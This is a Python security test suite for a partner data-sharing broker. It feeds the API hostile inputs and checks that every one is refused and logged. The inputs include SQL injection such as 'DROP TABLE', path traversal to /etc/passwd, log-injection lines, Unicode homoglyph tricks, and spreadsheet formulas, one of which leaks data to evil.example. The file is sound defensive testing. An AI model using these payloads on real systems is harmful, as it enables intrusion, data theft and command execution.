"""Hostile input: parser differentials, injections, huge and odd values, Unicode tricks, logs.

What a partner's compromised system (or a curious employee with its key)
can put in a request body, a query string, a path or a header. Every
answer: a 4xx (never a 500), nothing disclosed, the refusal in the audit
log. Where the attacker's text is stored (a hold reason, a rejected
client id in a security event), it must stay inert: one JSON string in
one log entry, one line of the export, never a second entry, a control
character in the operator's log, or a spreadsheet formula.
"""

from __future__ import annotations

import json
import logging
import secrets
import socket
from typing import Any

import httpx
import pytest

from broker.stack import LocalStack
from tests.security.conftest import (
    DE_LINGE,
    FG,
    GEMEENTE,
    POLITIE,
    Attempt,
    Clients,
    StackForge,
    assert_nothing_leaks,
    assert_refused,
    attempt,
    case_body,
    entries_after,
    exchange_body,
    request_token,
)

pytestmark = pytest.mark.e2e

JSON = {"content-type": "application/json"}


def call(
    stack: LocalStack, client_for: Clients, principal: str, method: str, path: str, **kw: Any
) -> Attempt:
    client = client_for(principal)
    headers = kw.pop("headers", {})
    return attempt(
        stack, lambda trace: client.request(method, path, headers={**headers, **trace}, **kw)
    )


def assert_invalid_request(result: Attempt, principal: str, *, also: Any = ()) -> None:
    assert_refused(result.response, status=400, code="invalid_request", also=also)
    result.assert_logged("invalid_request", kind="security_event", principal=principal)


def raw_exchange(case_id: str, members: str) -> bytes:
    """An exchange body as text: `members` (JSON object members) before the regular ones."""
    regular = json.dumps(exchange_body(case_id))[1:]
    return ("{" + members + ", " + regular).encode()


# --- parsers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "duplicate",
    [
        # The case named twice: which one is checked, which one is served?
        pytest.param('"case": "case_{zeros}"', id="case"),
        # An inspected purpose first, the real one last.
        pytest.param('"purpose": "opsporing"', id="purpose"),
        # Another exchange type first.
        pytest.param('"query": "corporatie.huurrelatie"', id="query"),
        # A nested duplicate: the acting user twice.
        pytest.param(
            '"on_behalf_of": {"user": "a", "user": "b", "function": "casusregisseur"}',
            id="nested",
        ),
    ],
)
def test_duplicate_json_keys_are_refused(
    stack: LocalStack, client_for: Clients, active_case: str, duplicate: str
) -> None:
    body = raw_exchange(active_case, duplicate.replace("{zeros}", "0" * 32))
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/exchanges", content=body, headers=JSON)
    assert_invalid_request(result, GEMEENTE)


@pytest.mark.parametrize(
    ("content_type", "encoding"),
    [
        pytest.param("text/plain", "utf-8", id="text-plain"),  # a CORS "simple" request
        pytest.param("application/x-www-form-urlencoded", "utf-8", id="form"),
        pytest.param("multipart/form-data; boundary=x", "utf-8", id="multipart"),
        pytest.param("application/xml", "utf-8", id="xml"),
        pytest.param("text/json", "utf-8", id="text-json"),
        pytest.param("application/json-seq", "utf-8", id="json-seq"),
        pytest.param(None, "utf-8", id="none"),
        # contract.md: JSON in UTF-8. A UTF-16 body is another text to every inspector.
        pytest.param("application/json; charset=utf-16", "utf-16", id="utf-16"),
    ],
)
def test_wrong_content_type_is_refused(
    stack: LocalStack,
    client_for: Clients,
    active_case: str,
    content_type: str | None,
    encoding: str,
) -> None:
    body = json.dumps(exchange_body(active_case)).encode(encoding)
    headers = {"content-type": content_type} if content_type else {}
    result = call(
        stack, client_for, GEMEENTE, "POST", "/v1/exchanges", content=body, headers=headers
    )
    assert_refused(result.response, status={400, 415})
    result.assert_logged(result.response.json()["code"], principal=GEMEENTE)


def test_json_at_the_token_endpoint_is_refused(stack: LocalStack, forge: StackForge) -> None:
    form = {
        "grant_type": "client_credentials",
        "client_id": GEMEENTE,
        "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
        "client_assertion": forge.assertion(),
    }
    result = attempt(
        stack,
        lambda trace: httpx.post(stack.settings.issuer + "/oauth/token", json=form, headers=trace),
    )
    assert_refused(result.response, status=400, code="invalid_request", problem=False)
    result.assert_logged("invalid_request", kind="security_event", principal=None)


# --- injection ---------------------------------------------------------------------------

SQL = [
    "' OR '1'='1",
    "1; DROP TABLE audit_entries; --",
    "x' UNION SELECT entry FROM audit_entries --",
    "%' --",
    "case_%",
]
AUDIT_FILTERS = ["case", "partner", "decision", "from", "to", "cursor", "limit"]


@pytest.mark.parametrize("payload", SQL, ids=["or", "drop", "union", "like-comment", "like"])
@pytest.mark.parametrize("name", AUDIT_FILTERS)
def test_sql_injection_in_audit_filters_is_refused(
    stack: LocalStack, client_for: Clients, name: str, payload: str
) -> None:
    size = stack.services.audit.checkpoint().size
    result = call(stack, client_for, FG, "GET", "/v1/audit/entries", params={name: payload})
    assert_invalid_request(result, FG)
    # The table is still there, whole.
    assert stack.services.audit.checkpoint().size >= size


@pytest.mark.parametrize(
    ("path", "params"),
    [
        pytest.param("/v1/audit/decisions", {"exchange": "' OR 1=1 --"}, id="decision-log"),
        pytest.param("/v1/audit/subjects/og-1", {"case": "' OR '1'='1"}, id="report-case"),
        pytest.param(
            "/v1/audit/subjects/og-1%27%20OR%20%271%27=%271", {"case": "c"}, id="report-ref"
        ),
        pytest.param("/v1/audit/proofs/inclusion", {"index": "0 OR 1=1", "size": "1"}, id="index"),
        pytest.param("/v1/audit/proofs/consistency", {"first": "1", "second": "1;--"}, id="second"),
    ],
)
def test_sql_injection_in_other_audit_parameters_is_refused(
    stack: LocalStack, client_for: Clients, path: str, params: dict[str, str]
) -> None:
    result = call(stack, client_for, FG, "GET", path, params=params)
    assert_invalid_request(result, FG)


REGO_INPUT = [
    # Quotes and braces to close a string and open a rule, where a query is built as text.
    pytest.param({"query": 'politie.meldingen" } allow { true'}, 400, id="query-rule"),
    # A newline behind a valid value: a line-based check would see only the first line.
    pytest.param({"query": "politie.meldingen\ninput.x"}, 400, id="query-newline"),
    # A reference to the policy's own data as the exchange type.
    pytest.param({"query": "data.ketenbroker"}, 403, id="query-data-ref"),
    pytest.param({"purpose": 'aanpak_woonoverlast" || true'}, 400, id="purpose-or"),
    pytest.param({"subject": 'og-1" } allow { true'}, 400, id="subject-rule"),
    pytest.param({"case": 'x"; data.y'}, 400, id="case-quote"),
    pytest.param(
        {"on_behalf_of": {"user": "u", "function": 'casusregisseur", "role": "gemeente'}},
        400,
        id="function-json",
    ),
    pytest.param({"period": {"from": "2025-01-01", "to": "input.period.to"}}, 400, id="period"),
    # Objects where strings belong (NoSQL-style operators).
    pytest.param({"query": {"$ne": None}}, 400, id="query-object"),
    pytest.param({"subject": ["og-1", "m-1"]}, 400, id="subject-list"),
    pytest.param({"purpose": {"ref": "data.rules"}}, 400, id="purpose-object"),
]


@pytest.mark.parametrize(("override", "status"), REGO_INPUT)
def test_rego_input_injection_in_exchange_fields_is_refused(
    stack: LocalStack,
    client_for: Clients,
    active_case: str,
    override: dict[str, Any],
    status: int,
) -> None:
    body = exchange_body(active_case, **override)
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/exchanges", json=body)
    assert_refused(result.response, status=status)
    result.assert_logged(result.response.json()["code"], principal=GEMEENTE)


PATH_PAYLOADS = [
    pytest.param("..", id="dot-dot"),
    pytest.param("%2e%2e", id="encoded-dot-dot"),
    pytest.param("..%2F..%2Fetc%2Fpasswd", id="encoded-traversal"),
    pytest.param("%2e%2e%2f%2e%2e%2fkeys%2fbroker", id="traversal-to-keys"),
    pytest.param("%27%20OR%20%271%27=%271", id="sql"),
    pytest.param("%0d%0aX-Injected:%201", id="crlf"),
    pytest.param("%25", id="percent"),
    pytest.param("a" * 5000, id="5000-chars"),
    pytest.param("%E2%80%AEcase", id="right-to-left-override"),
    pytest.param("%F0%9F%98%80", id="emoji"),
]


@pytest.mark.parametrize("payload", PATH_PAYLOADS)
def test_path_injection_in_case_ids_is_refused(
    stack: LocalStack, client_for: Clients, payload: str
) -> None:
    """Payloads go out percent-encoded, as a browser or proxy would send them.

    A 401 is a refusal too: a path longer than a DPoP proof's `htu` may be
    (2 KiB) cannot be proven.
    """
    result = call(stack, client_for, GEMEENTE, "GET", f"/v1/cases/{payload}")
    assert_refused(result.response, status={400, 401, 404})
    if result.response.json()["code"] != "not_found" or result.records:
        result.assert_logged(result.response.json()["code"])
    # A path that matches no route never reached authentication: no record is expected.


def test_nul_in_a_case_id_is_not_taken_for_an_outage(
    stack: LocalStack, client_for: Clients
) -> None:
    """A NUL is a character PostgreSQL text cannot hold: still an unknown case, not a 503."""
    result = call(stack, client_for, GEMEENTE, "GET", "/v1/cases/case_%00")
    assert_refused(result.response, status={400, 404})
    result.assert_logged(result.response.json()["code"], principal=GEMEENTE)


@pytest.mark.parametrize(
    ("path", "params"),
    [
        pytest.param("/v1/audit/subjects/..", {"case": "x"}, id="ref-dot-dot"),
        pytest.param("/v1/audit/subjects/og-1", {"case": "../../etc/passwd"}, id="case-traversal"),
        pytest.param("/v1/audit/subjects/og-1", {"case": "..\\..\\keys"}, id="case-backslash"),
        pytest.param("/v1/audit/decisions", {"exchange": "../ex_" + "a" * 32}, id="exchange"),
    ],
)
def test_path_injection_in_audit_parameters_is_refused(
    stack: LocalStack, client_for: Clients, path: str, params: dict[str, str]
) -> None:
    result = call(stack, client_for, FG, "GET", path, params=params)
    assert_refused(result.response, status={400, 404})
    if result.response.json()["code"] != "not_found" or result.records:
        result.assert_logged(result.response.json()["code"], principal=FG)
    # "/v1/audit/subjects/.." is resolved by the client to a path no route matches.


# --- numbers and sizes -------------------------------------------------------------------

QUERY_NUMBERS = [
    pytest.param("/v1/audit/entries", {"limit": "501"}, id="limit-501"),
    pytest.param("/v1/audit/entries", {"limit": str(10**30)}, id="limit-huge"),
    pytest.param("/v1/audit/entries", {"limit": "-1"}, id="limit-negative"),
    pytest.param("/v1/audit/entries", {"limit": "0"}, id="limit-zero"),
    pytest.param("/v1/audit/entries", {"limit": "NaN"}, id="limit-nan"),
    pytest.param("/v1/audit/entries", {"limit": "Infinity"}, id="limit-infinity"),
    pytest.param("/v1/audit/entries", {"limit": "1e3"}, id="limit-exponent"),
    pytest.param("/v1/audit/entries", {"limit": "0x10"}, id="limit-hex"),
    pytest.param("/v1/audit/entries", {"limit": "\uff11\uff10"}, id="limit-full-width"),
    pytest.param("/v1/audit/entries", {"cursor": str(2**63)}, id="cursor-2-63"),
    pytest.param("/v1/audit/entries", {"cursor": "-2"}, id="cursor-negative"),
    pytest.param("/v1/audit/entries", {"cursor": "nan"}, id="cursor-nan"),
    pytest.param("/v1/audit/proofs/inclusion", {"index": str(2**64), "size": "1"}, id="idx-2-64"),
    pytest.param("/v1/audit/proofs/inclusion", {"index": "0", "size": str(2**62)}, id="size-2-62"),
    pytest.param("/v1/audit/proofs/inclusion", {"index": "-1", "size": "1"}, id="index-neg"),
    pytest.param(
        "/v1/audit/proofs/consistency", {"first": "0", "second": str(2**62)}, id="second-2-62"
    ),
    pytest.param("/v1/audit/proofs/consistency", {"first": "inf", "second": "1"}, id="first-inf"),
]


@pytest.mark.parametrize(("path", "params"), QUERY_NUMBERS)
def test_huge_integers_nan_and_huge_limits_in_queries_are_refused(
    stack: LocalStack, client_for: Clients, path: str, params: dict[str, str]
) -> None:
    result = call(stack, client_for, FG, "GET", path, params=params)
    assert_invalid_request(result, FG)


def _case_with(**address: object) -> dict[str, Any]:
    body = case_body()
    body["address"] = {**body["address"], **address}
    return body


BODY_NUMBERS = [
    pytest.param(_case_with(huisnummer=10**20), id="huisnummer-10e20"),
    pytest.param(_case_with(huisnummer=-1), id="huisnummer-negative"),
    pytest.param(_case_with(huisnummer=float("nan")), id="huisnummer-nan"),
    pytest.param(_case_with(huisnummer=float("inf")), id="huisnummer-infinity"),
    pytest.param(_case_with(huisnummer=12.5), id="huisnummer-fraction"),
    pytest.param(_case_with(huisnummer="\uff11\uff12"), id="huisnummer-full-width"),
    pytest.param(_case_with(huisnummer=True), id="huisnummer-true"),
    pytest.param({**case_body(), "criteria": [2**64]}, id="criteria-2-64"),
    pytest.param({**case_body(), "criteria": [float("nan")]}, id="criteria-nan"),
    pytest.param({**case_body(), "criteria": list(range(10_000))}, id="criteria-10000"),
]


@pytest.mark.parametrize("body", BODY_NUMBERS)
def test_huge_integers_and_nan_in_bodies_are_refused(
    stack: LocalStack, client_for: Clients, body: dict[str, Any]
) -> None:
    content = json.dumps(body).encode()  # NaN and Infinity as Python's json writes them
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/cases", content=content, headers=JSON)
    assert_invalid_request(result, GEMEENTE)


def test_period_of_eight_thousand_years_is_refused(
    stack: LocalStack, client_for: Clients, active_case: str
) -> None:
    body = exchange_body(active_case, period={"from": "0001-01-01", "to": "9999-12-31"})
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/exchanges", json=body)
    assert_refused(result.response, status={400, 403})
    result.assert_logged(result.response.json()["code"], principal=GEMEENTE)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(lambda case: raw_exchange(case, '"huisnummer": ' + "9" * 5000), id="int-5000"),
        pytest.param(lambda _: b"[" * 100_000 + b"]" * 100_000, id="nesting-100000"),
    ],
)
def test_body_beyond_the_json_parser_is_refused_and_logged(
    stack: LocalStack, client_for: Clients, active_case: str, content: Any
) -> None:
    result = call(
        stack,
        client_for,
        GEMEENTE,
        "POST",
        "/v1/exchanges",
        content=content(active_case),
        headers=JSON,
    )
    assert_invalid_request(result, GEMEENTE)


def test_deeply_nested_body_is_refused(
    stack: LocalStack, client_for: Clients, active_case: str
) -> None:
    """Nesting the parser still takes, where a string belongs."""
    subject = json.loads("[" * 500 + "]" * 500)
    body = exchange_body(active_case, subject=subject)
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/exchanges", json=body)
    assert_invalid_request(result, GEMEENTE)


HUGE_BODIES = [
    # 8 MiB in one field.
    pytest.param(lambda case: {**exchange_body(case), "subject": "a" * (8 << 20)}, id="8MiB-field"),
    # Ten thousand subjects where twenty is the limit.
    pytest.param(
        lambda _: {
            **case_body(),
            "subjects": [
                {"ref": f"s-{n}", "role": "omwonende", "name": "X", "birth_date": "2000-01-01"}
                for n in range(10_000)
            ],
        },
        id="10000-subjects",
    ),
    # Fifty thousand unknown members.
    pytest.param(
        lambda case: {**exchange_body(case), **{f"k{n}": n for n in range(50_000)}},
        id="50000-members",
    ),
]


@pytest.mark.parametrize("make", HUGE_BODIES)
def test_huge_body_is_refused(
    stack: LocalStack, client_for: Clients, active_case: str, make: Any
) -> None:
    body = make(active_case)
    path = "/v1/cases" if "subjects" in body else "/v1/exchanges"
    result = call(stack, client_for, GEMEENTE, "POST", path, json=body)
    assert_refused(result.response, status={400, 413})
    assert len(result.response.content) < 16_384, "the refusal must not echo the body"
    result.assert_logged(result.response.json()["code"], principal=GEMEENTE)


def test_body_beyond_any_legitimate_size_is_refused_unread(
    stack: LocalStack, client_for: Clients, active_case: str
) -> None:
    content = b" " * (5 << 20) + json.dumps(exchange_body(active_case)).encode()
    result = call(
        stack, client_for, GEMEENTE, "POST", "/v1/exchanges", content=content, headers=JSON
    )
    assert_refused(result.response, status=413)
    result.assert_logged(result.response.json()["code"], principal=GEMEENTE)


# --- Unicode tricks ---------------------------------------------------------------------

HOMOGLYPH_O = "\u043e"  # Cyrillic small o
ZERO_WIDTH = "\u200b"
RLO = "\u202e"  # right-to-left override


def _exchange_with(case_id: str, **override: Any) -> tuple[str, dict[str, Any]]:
    return "/v1/exchanges", exchange_body(case_id, **override)


def _case_body_with(**override: Any) -> tuple[str, dict[str, Any]]:
    return "/v1/cases", {**case_body(), **override}


IDENTIFIER_TRICKS = [
    pytest.param(
        lambda _: _case_body_with(
            dwelling_owner="woonstichting-de-linge".replace("o", HOMOGLYPH_O)
        ),
        id="homoglyph-owner",
    ),
    pytest.param(
        lambda _: _case_body_with(partners=["politie-lekstr" + HOMOGLYPH_O * 2 + "m"]),
        id="homoglyph-partner",
    ),
    pytest.param(
        lambda _: _case_body_with(partners=["\uff50olitie-lekstroom"]), id="full-width-partner"
    ),
    pytest.param(
        lambda _: _case_body_with(
            address={"postcode": "\uff14\uff11\uff10\uff11 AB", "huisnummer": 12, "plaats": "L"}
        ),
        id="full-width-postcode",
    ),
    pytest.param(
        lambda case: _exchange_with(case, query="politie.meldingen".replace("e", "\u0435")),
        id="homoglyph-query",
    ),
    pytest.param(
        lambda case: _exchange_with(case, purpose="\uff41anpak_woonoverlast"),
        id="full-width-purpose",
    ),
    pytest.param(lambda case: _exchange_with(case, subject="og" + ZERO_WIDTH + "-1"), id="zw-ref"),
    pytest.param(lambda case: _exchange_with(case, case=case + RLO), id="rlo-case"),
    pytest.param(
        lambda case: _exchange_with(
            case, on_behalf_of={"user": "j.devries" + ZERO_WIDTH, "function": "casusregisseur"}
        ),
        id="zw-user",
    ),
    pytest.param(
        lambda case: _exchange_with(
            case, on_behalf_of={"user": "j.devries", "function": "casus\u0000regisseur"}
        ),
        id="nul-function",
    ),
]


@pytest.mark.parametrize("make", IDENTIFIER_TRICKS)
def test_unicode_tricks_in_identifiers_are_refused(
    stack: LocalStack, client_for: Clients, active_case: str, make: Any
) -> None:
    path, body = make(active_case)
    result = call(stack, client_for, GEMEENTE, "POST", path, json=body)
    assert_invalid_request(result, GEMEENTE)


NAME_TRICKS = [
    pytest.param("Marco" + ZERO_WIDTH + " de Wit", id="zero-width-space"),
    pytest.param("Marco de " + RLO + "tiW", id="right-to-left-override"),
    pytest.param("Marco\u0000de Wit", id="nul"),
    pytest.param("Marco\r\nde Wit", id="cr-lf"),
    pytest.param("Marco\u001b[31mde Wit", id="ansi-escape"),
    pytest.param("\ufeffMarco de Wit", id="byte-order-mark"),
    pytest.param("Marco\u2028de Wit", id="line-separator"),
]


@pytest.mark.parametrize("name", NAME_TRICKS)
def test_unicode_tricks_in_names_are_refused(
    stack: LocalStack, client_for: Clients, name: str
) -> None:
    body = case_body()
    body["subjects"][0]["name"] = name
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/cases", json=body)
    assert_invalid_request(result, GEMEENTE, also=("Marco",))


# Free text the broker stores and shows to others (a place name, a justification,
# a hold reason): invisible and control characters make it read differently on
# screen than it is stored (Trojan Source, CVE-2021-42574) or break the DPO's tools.
FREE_TEXT_TRICKS = [
    pytest.param("\u0000", id="nul"),
    pytest.param(RLO, id="right-to-left-override"),
    pytest.param(ZERO_WIDTH, id="zero-width-space"),
    pytest.param("\u001b[2J", id="ansi-escape"),
    pytest.param("\r\n", id="cr-lf"),
]


@pytest.mark.parametrize("trick", FREE_TEXT_TRICKS)
def test_control_characters_in_the_address_are_refused(
    stack: LocalStack, client_for: Clients, trick: str
) -> None:
    body = _case_with(plaats=f"Lek{trick}stroom")
    result = call(stack, client_for, GEMEENTE, "POST", "/v1/cases", json=body)
    assert_invalid_request(result, GEMEENTE)


@pytest.mark.parametrize("trick", FREE_TEXT_TRICKS[:4])  # a justification may run over lines
def test_control_characters_in_an_urgency_justification_are_refused(
    stack: LocalStack, client_for: Clients, active_case: str, trick: str
) -> None:
    text = f"Acuut gevaar voor de omwonenden{trick}, direct ingrijpen nodig."
    path = f"/v1/cases/{active_case}/urgency"
    result = call(stack, client_for, GEMEENTE, "POST", path, json={"justification": text})
    assert_invalid_request(result, GEMEENTE)


@pytest.fixture
def police_entry(client_for: Clients, active_case: str) -> int:
    """The index of an exchange entry the police provided (theirs to hold)."""
    answer = client_for(GEMEENTE).post("/v1/exchanges", json=exchange_body(active_case))
    assert answer.status_code == 200, answer.text
    index: int = answer.json()["receipt"]["log_index"]
    return index


@pytest.mark.parametrize("trick", FREE_TEXT_TRICKS)
def test_control_characters_in_a_hold_reason_are_refused(
    stack: LocalStack, client_for: Clients, police_entry: int, trick: str
) -> None:
    path = f"/v1/audit/entries/{police_entry}/hold"
    result = call(
        stack, client_for, POLITIE, "POST", path, json={"reason": f"lopend{trick}onderzoek"}
    )
    assert_invalid_request(result, POLITIE)


@pytest.mark.parametrize(
    "client_id",
    [
        pytest.param("gemeente-lekstr" + HOMOGLYPH_O * 2 + "m", id="cyrillic-o"),
        pytest.param("\uff47emeente-lekstroom", id="full-width-g"),
        pytest.param("gemeente-lekstroom" + ZERO_WIDTH, id="zero-width-space"),
        pytest.param("gemeente-lekstroom ", id="trailing-space"),
        pytest.param("GEMEENTE-LEKSTROOM", id="upper-case"),
        pytest.param("gemeente-lekstroom\u0000", id="nul"),
        pytest.param(RLO + "moortskel-etneemeg", id="right-to-left-override"),
    ],
)
def test_lookalike_client_id_gets_no_token(
    stack: LocalStack, forge: StackForge, client_id: str
) -> None:
    """The gemeente's key, signing as a client id that only looks like the gemeente's."""
    assertion = forge.assertion(key=forge.key(GEMEENTE), client_id=client_id)
    result = request_token(stack, client_id, assertion)
    assert_refused(result.response, status=401, code="invalid_client", problem=False)
    record = result.assert_logged("invalid_client", kind="security_event", principal=None)
    assert "expected a client of the convenant" in record["reasons"][0]["detail"]


@pytest.mark.parametrize(
    "authorization",
    [
        pytest.param("Bearer \uff54\uff4f\uff4b\uff45\uff4e".encode(), id="full-width-token"),
        pytest.param("\uff22earer abc.def.ghi".encode(), id="full-width-scheme"),
        pytest.param(b"DPoP abc.def.gh\xff", id="latin-1-byte"),
        pytest.param(("Bearer abc" + ZERO_WIDTH + ".def.ghi").encode(), id="zero-width"),
        pytest.param(("Bearer abc" + RLO + ".def.ghi").encode(), id="right-to-left-override"),
    ],
)
def test_unicode_tricks_in_the_authorization_header_are_refused(
    stack: LocalStack, authorization: bytes
) -> None:
    result = attempt(
        stack,
        lambda trace: httpx.get(
            stack.settings.issuer + "/v1/convenant",
            headers={**trace, "Authorization": authorization},  # type: ignore[dict-item]  # bytes go out as they are
        ),
    )
    assert_refused(result.response, status=401, code="invalid_token")
    result.assert_logged("invalid_token", kind="security_event", principal=None)


def test_junk_traceparent_is_replaced_and_the_refusal_still_logged(stack: LocalStack) -> None:
    junk = ("00-" + "\uff10" * 32 + "-" + RLO * 16 + "-01").encode()
    size = stack.services.audit.checkpoint().size
    response = httpx.get(
        stack.settings.issuer + "/v1/convenant",
        headers={"traceparent": junk},  # type: ignore[dict-item]  # bytes go out as they are
    )
    assert_refused(response, status=401, code="invalid_token")
    [event] = [e for e in entries_after(stack, size) if e["kind"] == "security_event"]
    assert len(event["trace_id"]) == 32 and event["trace_id"].isascii()
    assert event["trace_id"] != "0" * 32


@pytest.mark.parametrize(
    "raw_header",
    [
        pytest.param(b"X-Note: a\x00b", id="nul"),
        pytest.param(b"X-Note: a\rb", id="bare-cr"),
        pytest.param(b"X-Note: a\r\n folded", id="obs-fold"),
        pytest.param(b"X Note: a", id="space-in-name"),
        pytest.param(b"Authorization : Bearer a.b.c", id="space-before-colon"),
        pytest.param(b"traceparent: 00-\x1b[31m-01", id="escape-in-traceparent"),
    ],
)
def test_malformed_header_bytes_are_refused_by_the_server(
    stack: LocalStack, raw_header: bytes
) -> None:
    """Below HTTP's grammar: the server refuses (400) or hangs up; the broker still serves."""
    host, port = stack.settings.issuer.removeprefix("http://").split(":")
    request = (
        b"GET /v1/convenant HTTP/1.1\r\nHost: "
        + host.encode()
        + b"\r\n"
        + raw_header
        + b"\r\nConnection: close\r\n\r\n"
    )
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(request)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    if answer:
        head, _, body = answer.partition(b"\r\n\r\n")
        status_line = head.split(b"\r\n", 1)[0]
        status = int(status_line.split()[1])
        assert status != 500 and 400 <= status < 500, status_line
        assert_nothing_leaks(body.decode("latin-1"))
    assert httpx.get(stack.settings.issuer + "/healthz").status_code == 200


# --- logs ---------------------------------------------------------------------------

FORGED_LINE = '{"kind": "exchange", "decision": "permit", "case": "case_forged"}'


def test_log_injection_stays_inside_one_audit_record(
    stack: LocalStack, client_for: Clients, forge: StackForge
) -> None:
    """A client id carrying a newline and a whole fake entry: one record, one export line."""
    client_id = 'x"}\n' + FORGED_LINE + "\r\nINFO forged"
    assertion = forge.assertion(key=forge.key(GEMEENTE), client_id=client_id)
    result = request_token(stack, client_id, assertion)
    assert_refused(result.response, status=401, code="invalid_client", problem=False)
    record = result.assert_logged("invalid_client", kind="security_event", principal=None)
    assert len(result.records) == 1
    assert "case_forged" in record["reasons"][0]["detail"]  # kept, as an inert string
    export = client_for(FG).get("/v1/audit/export")
    assert export.status_code == 200
    lines = export.text.splitlines()
    entries = [json.loads(line) for line in lines]
    assert all(isinstance(entry, dict) for entry in entries)
    assert not [e for e in entries if e.get("case") == "case_forged"]
    assert entries[-1]["checkpoint"]["size"] == len(entries) - 1


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param("x%00y", id="nul"),
        pytest.param("x%1b[31mFORGED%1b[0m", id="ansi-escape"),
        # CR and LF happen to be stripped by urllib's urlsplit inside Starlette's URL.
        pytest.param("x%0d%0aINFO%20forged", id="cr-lf"),
    ],
)
def test_control_characters_never_reach_the_operator_log(
    stack: LocalStack,
    client_for: Clients,
    caplog: pytest.LogCaptureFixture,
    payload: str,
) -> None:
    caplog.set_level(logging.INFO)
    marker = secrets.token_hex(4)
    client = client_for(GEMEENTE)
    client.get("/v1/cases")  # token and nonce first: only the refusal's lines follow
    caplog.clear()
    response = client.get(f"/v1/cases/{marker}{payload}")
    assert response.status_code == 404
    lines = [r.getMessage() for r in caplog.records]
    # The broker names the route's template, never the raw path (broker/api/access_log.py).
    assert "refused GET /v1/cases/{case_id}: not_found (404)" in lines, lines
    for line in lines:
        assert line.isprintable(), f"control characters in the operator's log: {line!r}"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


def test_csv_formula_injection_is_inert_in_the_dpo_export(
    stack: LocalStack, client_for: Clients, forge: StackForge, police_entry: int
) -> None:
    """The DPO has no CSV export (a gap, noted); the JSON Lines export keeps formulas inert.

    Formulas reach the log twice: as the police's hold reason (stored as
    given) and as rejected client ids (in security events). In the export
    each is a JSON string inside an object: no line starts with a formula
    character, and every line parses.
    """
    held = client_for(POLITIE).post(
        f"/v1/audit/entries/{police_entry}/hold", json={"reason": FORMULAS[0]}
    )
    assert held.status_code == 201, held.text
    for formula in FORMULAS[1:]:
        assertion = forge.assertion(key=forge.key(GEMEENTE), client_id=formula)
        refused = request_token(stack, formula, assertion)
        assert refused.response.status_code == 401
    for accept in ("application/jsonl", "text/csv"):
        export = client_for(FG).get("/v1/audit/export", headers={"Accept": accept})
        assert export.status_code == 200
        # No CSV is ever produced, whatever is asked for.
        assert export.headers["content-type"].startswith("application/jsonl")
        lines = export.text.splitlines()
        for line in lines:
            assert line.startswith("{"), f"an export line starts with {line[:1]!r}"
            assert isinstance(json.loads(line), dict)
        text = export.text
        assert json.dumps(FORMULAS[0])[1:-1] in text  # present, as an escaped JSON string


def test_special_category_free_text_never_reaches_the_requester(
    stack: LocalStack, client_for: Clients, active_case: str
) -> None:
    """The police's descriptions speak of drugs and psychiatry: withheld whole (R2)."""
    result = call(
        stack, client_for, GEMEENTE, "POST", "/v1/exchanges", json=exchange_body(active_case)
    )
    assert result.response.status_code == 200, result.response.text
    answer = result.response.json()
    text = result.response.text
    for word in ("drugs", "psychiatrisch", "verward", "onder invloed", "korte_omschrijving"):
        assert word not in text.lower(), f"special-category text reached the requester: {word}"
    assert_nothing_leaks(json.dumps(answer["withheld"]))
    withheld = {w["field"] for w in answer["withheld"]}
    assert "meldingen" in withheld
    closing = [e for e in result.records if e.get("decision") in {"permit", "partial"}]
    assert closing, result.records
    codes = {w["code"] for w in closing[-1]["fields_withheld"]}
    assert "special_category_text" in codes


def test_corporation_sees_no_special_category_in_a_case_status(
    stack: LocalStack, client_for: Clients, active_case: str
) -> None:
    """Which care organisation takes part is itself health data (R2, R4)."""
    answer = client_for(DE_LINGE).get(f"/v1/cases/{active_case}/status")
    assert answer.status_code == 200, answer.text
    assert "ggd-lekstroom" not in answer.text and "buurtteam-lekstroom" not in answer.text
    assert_nothing_leaks(answer.text)
